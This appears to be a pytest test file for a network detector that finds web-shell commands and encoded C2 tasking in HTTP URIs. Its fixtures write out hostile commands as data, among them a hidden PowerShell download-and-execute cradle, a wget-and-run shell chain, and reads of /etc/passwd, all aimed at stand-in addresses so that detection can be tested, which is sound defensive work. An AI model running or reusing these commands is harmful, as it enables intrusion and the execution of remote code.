"""uri-command: commands in URIs, decoded (web shells inbound, C2 tasking outbound)."""

from __future__ import annotations

import base64
import re
from pathlib import Path

import pytest

from homecall.detectors import command_text, uri_command
from homecall.detectors.command_text import COMPLETE, FULL, KEYWORD
from homecall.detectors.uri_command import UriCommandConfig, command_score
from homecall.findings import Finding
from homecall.pipeline import import_paths
from homecall.store import Store
from homecall.store.tables import Tables
from tests.detectors.zeek_http import T0, Request, http_store
from tests.detectors.zeek_logs import assert_contract, assert_spark_agrees, open_store

SERVER, ATTACKER = "10.0.0.5", "203.0.113.50"  # an internal web server, an outside client
IMPLANT, C2 = "10.0.0.20", "198.51.100.7"
BROWSER = "10.0.0.30"
SHELL = "/uploads/2026/avatar.php"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def b64url(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def wide(text: str) -> str:
    """PowerShell's -EncodedCommand: base64 of UTF-16LE."""
    return base64.b64encode(text.encode("utf-16-le")).decode()


PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
TASK = f"powershell -nop -w hidden -enc {wide(PAYLOAD)}"

# An operator at a web shell: plain, base64 and hex commands, all answered 200.
WEB_SHELL = [
    Request(T0 + t, ATTACKER, SERVER, f"{SHELL}?cmd={command}", host="intranet.example.com")
    for t, command in (
        (10, "whoami"),
        (40, "cat+/etc/passwd"),
        (70, b64("uname -a")),
        (95, b"ls -la /var/www".hex()),
    )
]
# An implant fetching a task whose parameter is URL-safe base64 of a PowerShell -enc line.
TASKING = [
    Request(T0 + 300 * i, IMPLANT, C2, f"/api/v2/task?id={i}&t={b64url(TASK)}", host="cdn-sync.net")
    for i in range(1, 4)
]
JWT = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0"
    "IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)
LOOK_ALIKES = [
    Request(T0 + 5, BROWSER, "142.250.74.36", "/search?q=how+to+use+curl", host="www.google.com"),
    Request(
        T0 + 6, BROWSER, "142.250.74.36", "/search?q=whoami+command+linux", host="www.google.com"
    ),
    Request(T0 + 7, BROWSER, "93.184.216.34", f"/v1/me?token={JWT}", host="api.example.com"),
    Request(
        T0 + 8, BROWSER, "93.184.216.35", f"/img/{b64('image_2024_0042.png')}",
        host="images.example.com",
    ),
    Request(
        T0 + 9, BROWSER, "93.184.216.36",
        "/t.gif?uid=Zm9vYmFyMTIzNDU2Nzg5MGFiY2RlZg&sid=9f8e7d6c5b4a39281716151413121110",
        host="tracker.example.com",
    ),
    Request(T0 + 11, BROWSER, "93.184.216.37", "/elfinder/connector.php?cmd=ls&target=l1_Lw"),
]  # fmt: skip


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    return http_store(tmp_path_factory.mktemp("uri-command"), WEB_SHELL + TASKING + LOOK_ALIKES)


def run(tables: Tables) -> list[Finding]:
    return list(uri_command.DETECTOR.run(tables, UriCommandConfig()))


def test_web_shell_is_found_with_the_decoded_commands(store: Store) -> None:
    (shell,) = [f for f in run(open_store(store)) if f.evidence["direction"] == "inbound"]
    assert (shell.src, shell.dst, shell.dst_port) == (SERVER, ATTACKER, None)
    assert shell.evidence["path"] == SHELL
    assert shell.evidence["requests"] == len(WEB_SHELL)
    commands = shell.evidence["commands"]
    for command in ("whoami", "cat /etc/passwd", "uname -a", "ls -la /var/www"):
        assert command in commands  # the base64 and hex ones decoded
    assert {"plain", "base64", "hex"} <= set(shell.evidence["encodings"])
    assert shell.evidence["is_server_script"] is True
    assert shell.evidence["answered_ratio"] == 1.0
    assert "internal web server" in shell.summary
    assert shell.severity in ("high", "critical")  # an operator working a shell
    assert len(shell.evidence["uids"]) == len(WEB_SHELL)


def test_c2_tasking_is_decoded_down_to_the_powershell_script(store: Store) -> None:
    (task,) = [f for f in run(open_store(store)) if f.src == IMPLANT]
    assert (task.dst, task.dst_port) == ("cdn-sync.net", 80)
    assert task.evidence["direction"] == "outbound"
    assert task.evidence["commands"] == [PAYLOAD]  # base64url -> text -> UTF-16LE -enc blob
    (encoding,) = task.evidence["encodings"]  # this blob has no - or _: both alphabets read it
    assert encoding in ("base64>base64+utf-16le", "base64url>base64+utf-16le")
    assert task.evidence["parameters"] == ["t"]


def test_look_alikes_are_not_flagged_or_stay_low(store: Store) -> None:
    browser = [f for f in run(open_store(store)) if f.src == BROWSER]
    assert all(f.score < 0.25 for f in browser), [f.summary for f in browser]


def test_contract(store: Store) -> None:
    assert_contract(run, store)


@pytest.mark.spark
def test_duckdb_and_spark_agree(store: Store, spark: object) -> None:
    assert_spark_agrees(run, store, spark)


def test_prefilter_keeps_the_commands_and_few_benign_requests(store: Store) -> None:
    tables = open_store(store)
    kept = tables.to_pyarrow(uri_command.candidates(tables)).column("uri").to_pylist()
    assert {r.uri for r in WEB_SHELL + TASKING} <= set(kept)
    assert len(set(kept) & {r.uri for r in LOOK_ALIKES}) <= 3  # curl, whoami, elFinder's cmd


@pytest.mark.parametrize(
    "sample",
    [
        "zeek-tsv/stratosphere-security-datasets/005-zeek-scenario-malicious",
        "zeek-tsv/rita-proxy-beacon",
        "zeek-json/slips-test9-mixed",
        "zeek-json/rita-dnscat2-subset",
    ],
)
def test_samples_without_web_shells_give_nothing(
    samples: Path, sample: str, tmp_path: Path
) -> None:
    store = Store(tmp_path / "store")
    import_paths([samples / sample], store)
    assert run(open_store(store)) == []  # PROVENANCE: no command in any URI of these captures


def test_mozi_exploit_attempts_on_an_exposed_server(samples: Path, tmp_path: Path) -> None:
    """Suricata saw Internet scanners send Mozi's Netgear setup.cgi command injection to the
    exposed 192.168.1.129 (PROVENANCE: inbound scanning, not C2; no reply logged)."""
    store = Store(tmp_path / "store")
    import_paths([samples / "suricata-eve/slips-test6"], store)
    findings = run(open_store(store))
    assert findings
    for f in findings:
        assert f.src == "192.168.1.129"
        assert f.evidence["direction"] == "inbound"
        assert f.evidence["path"] == "/setup.cgi"
        assert any("Mozi.m" in c for c in f.evidence["commands"])
        assert f.evidence["answered_ratio"] is None  # Suricata logged no reply
        assert "command injection" in f.summary
        assert f.severity not in ("high", "critical")  # an attempt, one command per scanner


@pytest.mark.parametrize(
    ("path", "query", "strength", "decoded"),
    [
        (SHELL, "cmd=whoami", COMPLETE, "whoami"),
        (SHELL, "cmd=ls+-la+/var/www", FULL, "ls -la /var/www"),
        (SHELL, f"c={b64('cat /etc/passwd')}", FULL, "cat /etc/passwd"),
        (SHELL, f"x={b64url('net user /domain')}", FULL, "net user /domain"),
        (SHELL, f"d={b'cat /etc/passwd'.hex()}", FULL, "cat /etc/passwd"),
        (SHELL, "p=%77%68%6f%61%6d%69", COMPLETE, "whoami"),
        (f"/api/exec/{b64url('uname -a')}", None, FULL, "uname -a"),
        ("/cgi-bin/;cat%20/etc/passwd", None, FULL, "/cgi-bin/;cat /etc/passwd"),
        ("/shell", "cd+/tmp;wget+http://192.0.2.1/m.sh;sh+m.sh", FULL, None),
        ("/", "q=download+powershell", KEYWORD, "download powershell"),
        ("/", "cmd=ls&target=l1_Lw", None, None),  # elFinder's file manager
        ("/index.php", "c=user&m=login", None, None),  # an MVC router
        ("/x", "exec=news", None, None),
        (f"/img/{b64('image_2024_0042.png')}", None, None, None),
        ("/v1/me", f"token={JWT}", None, None),
        ("/MFEwTzBNMEswSTAJBgUrDgMCGgUABBSAUQYBMq2awn1Rh6Doh/sBYgFV7gQU=", None, None, None),
    ],
)  # fmt: skip
def test_commands_in_uris(
    path: str, query: str | None, strength: float | None, decoded: str | None
) -> None:
    match = command_text.best_match(command_text.decoded_texts(path, query))
    if strength is None:
        assert match is None
        return
    assert match is not None
    assert match.strength == strength
    if decoded is not None:
        assert match.text.text == decoded


@pytest.mark.parametrize(
    ("text", "prose"),
    [
        ("how to use curl", True),
        ("whoami command linux", True),
        ("curl -s http://x | sh", False),
        ("whoami", False),
        ("net user /domain", False),
    ],
)
def test_prose(text: str, prose: bool) -> None:
    assert command_text.is_prose(text) is prose


def test_command_score_grows_with_each_reason() -> None:
    cfg = UriCommandConfig()
    lone = command_score(KEYWORD, 0.5, 1, script=False, cfg=cfg)
    full = command_score(FULL, 0.5, 1, script=False, cfg=cfg)
    answered = command_score(FULL, 1.0, 1, script=False, cfg=cfg)
    repeated = command_score(FULL, 1.0, cfg.distinct_full, script=False, cfg=cfg)
    shell = command_score(FULL, 1.0, cfg.distinct_full, script=True, cfg=cfg)
    assert lone < full < answered < repeated < shell == pytest.approx(cfg.max_score)
    assert lone < 0.25  # a lone keyword stays below "low" whatever else


def test_base64_cores_match_every_alignment() -> None:
    pattern = command_text.prefilter_pattern()
    for prefix in ("", "a", "ab"):
        encoded = base64.b64encode(f"{prefix}whoami /all".encode()).decode()
        assert re.search(pattern, f"/x?d={encoded}"), prefix
